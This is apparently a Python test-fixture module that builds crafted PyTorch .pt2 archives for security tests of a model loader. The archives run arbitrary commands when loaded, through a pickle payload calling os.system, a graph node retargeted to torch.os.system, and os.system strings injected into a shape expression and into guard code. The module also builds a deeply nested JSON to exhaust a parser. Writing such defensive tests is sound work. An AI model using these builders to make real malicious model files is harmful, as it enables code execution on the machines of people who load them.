"""Artifacts an attacker would craft for the trusted side: .pt2 archives that run code when torch loads
them, and a JSON nested past the parser's recursion limit. Shared by the unit tests and the hostile
notebooks (which build the same bytes inside the sandbox)."""
from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path


def honest_pt2(path: Path) -> None:
    import torch

    model = torch.nn.Sequential(torch.nn.Flatten(), torch.nn.Linear(4, 3))
    program = torch.export.export(model.eval(), (torch.rand(2, 4),),
                                  dynamic_shapes=({0: torch.export.Dim("batch", min=1, max=1 << 16)},))
    torch.export.save(program, str(path))


class _Payload:
    """Unpickling this runs `command` (os.system): what a crafted weight does in torch.export.load."""

    def __init__(self, command: str):
        self.command = command

    def __reduce__(self):
        import os
        return (os.system, (self.command,))


def _rewrite(path: Path, change) -> bytes:
    """The archive at `path` with its members passed through change(members) -> members."""
    with zipfile.ZipFile(path) as src:
        root = src.namelist()[0].split("/")[0]
        members = {n[len(root) + 1:]: src.read(n) for n in src.namelist()}
    members = change(members)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for name, data in members.items():
            dst.writestr(f"{root}/{name}", data)
    return out.getvalue()


def pickled_weight(path: Path, command: str) -> bytes:
    """One weight replaced by a pickle whose loading runs `command`, marked `use_pickle: true`."""
    import pickle

    def change(members):
        config = json.loads(members["data/weights/model_weights_config.json"])
        fqn, meta = next(iter(config["config"].items()))
        meta["use_pickle"] = True
        members["data/weights/" + meta["path_name"]] = pickle.dumps(_Payload(command))
        members["data/weights/model_weights_config.json"] = json.dumps(config).encode()
        return members
    return _rewrite(path, change)


def os_system_target(path: Path, command: str) -> bytes:
    """A graph node whose target resolves, through torch's own `import os`, to os.system."""
    def change(members):
        program = json.loads(members["models/model.json"])
        node = program["graph_module"]["graph"]["nodes"][0]
        node["target"] = "torch.os.system"
        node["inputs"] = [{"name": "command", "arg": {"as_string": command}, "kind": 1}]
        members["models/model.json"] = json.dumps(program).encode()
        return members
    return _rewrite(path, change)


def eval_in_shape(path: Path, command: str) -> bytes:
    """A shape expression that sympy.sympify would evaluate as Python."""
    def change(members):
        text = members["models/model.json"].decode()
        start = text.index('"expr_str": "') + len('"expr_str": "')
        end = text.index('"', start)
        members["models/model.json"] = (text[:start] + f"__import__('os').system('{command}')" + text[end:]).encode()
        return members
    return _rewrite(path, change)


def guard_code(path: Path, command: str) -> bytes:
    def change(members):
        program = json.loads(members["models/model.json"])
        program["guards_code"] = [f"__import__('os').system('{command}')"]
        members["models/model.json"] = json.dumps(program).encode()
        return members
    return _rewrite(path, change)


def pickled_inputs(path: Path, command: str) -> bytes:
    """The example inputs as a plain pickle: torch falls back to weights_only=False for them."""
    import pickle

    def change(members):
        members["data/sample_inputs/model.pt"] = pickle.dumps(_Payload(command))
        return members
    return _rewrite(path, change)


def deep_json(depth: int = 100_000) -> str:
    return "[" * depth + "]" * depth
